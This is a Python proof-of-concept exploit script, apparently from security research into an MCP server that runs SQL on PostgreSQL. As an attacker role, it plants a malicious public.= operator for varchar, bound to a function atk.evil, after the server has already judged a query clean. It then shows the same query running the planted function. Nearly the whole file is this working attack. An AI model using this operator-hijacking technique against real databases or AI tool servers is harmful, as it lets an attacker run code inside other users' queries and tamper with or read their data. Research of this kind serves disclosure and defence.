"""No race at all: the server judges `WHERE code = 'x'` once (clean), the attacker then creates
public.=(varchar, varchar) and commits, and the same call runs the planted function.
Usage: stale_verdict.py ROLE [SQL]"""
import asyncio
import json
import sys

import asyncpg
from common import DSN, as_role, tool
from mcpclient import connect


async def main(role: str, sql: str) -> None:
    a = await asyncpg.connect(as_role("attacker"))
    await a.execute("DROP OPERATOR IF EXISTS public.= (varchar, varchar)")
    try:
        async with connect(DSN if role == "postgres" else as_role(role)) as c:
            ok, body = await tool(c, "execute_query", sql=sql)
            print("before plant:", ok, json.dumps(body.get("error", body))[:300])
            await a.execute("CREATE OPERATOR public.= (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = atk.evil)")
            for i in range(3):
                ok, body = await tool(c, "execute_query", sql=sql)
                print("after plant", i, ok, json.dumps(body.get("error", body))[:300])
    finally:
        await a.execute("DROP OPERATOR IF EXISTS public.= (varchar, varchar)"); await a.close()

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2] if len(sys.argv) > 2 else "SELECT id FROM items WHERE code = 'x'"))
